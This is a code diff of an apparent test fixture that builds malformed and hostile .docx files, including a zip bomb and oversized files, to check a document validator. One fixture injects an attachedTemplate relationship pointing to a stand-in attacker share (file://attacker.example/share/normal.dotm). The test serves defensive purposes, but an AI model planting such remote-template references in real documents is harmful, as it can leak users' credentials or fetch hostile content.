@@ -88,10 +88,15 @@ TEMPLATES = {
     "folder": (lambda p: p, "is a folder"),
     "missing": (lambda p: p / "missing.docx", "does not exist"),
     "zip-bomb": (lambda p: _zip_bomb(p / "bomb.docx"), "zip bomb"),
-    "too-large": (lambda p: (p / "big.docx").write_bytes(b"\0" * (21 * 2**20)) or p / "big.docx", "too large"),
-    "not-a-zip": (lambda p: (p / "text.docx").write_text("hello") or p / "text.docx", "not a Word document"),
+    "too-large": (lambda p: _file(p / "big.docx", b"\0" * (21 * 2**20)), "too large"),
+    "not-a-zip": (lambda p: _file(p / "text.docx", b"hello"), "not a Word document"),
     "zip-without-document": (lambda p: _plain_zip(p / "other.docx"), "no main document part"),
 }
+
+
+def _file(path: Path, data: bytes) -> Path:
+    path.write_bytes(data)
+    return path
 
 
 def _plain_zip(path: Path) -> Path:
@@ -141,10 +146,9 @@ def _hostile_template(path: Path) -> Path:
             elif name == "word/styles.xml":
                 start = data.index(b'w:styleId="BodyText"')
                 end = data.index(b"</w:style>", start)
-                body = data[start:end]
-                assert b"<w:rPr>" in body
-                data = data[:start] + body.replace(b"<w:rPr>", b'<w:rPr><w:rFonts w:ascii="Kazan Test Sans" '
-                                                   b'w:hAnsi="Kazan Test Sans"/>', 1) + data[end:]
+                assert b"<w:rPr>" not in data[start:end]
+                font = b'<w:rPr><w:rFonts w:ascii="Kazan Test Sans" w:hAnsi="Kazan Test Sans"/></w:rPr>'
+                data = data[:end] + font + data[end:]  # its last child: after the paragraph properties
             dst.writestr(name, data)
         dst.writestr("word/_rels/settings.xml.rels", rels.format(
             ext.format("rIdT", "attachedTemplate", "file://attacker.example/share/normal.dotm")))
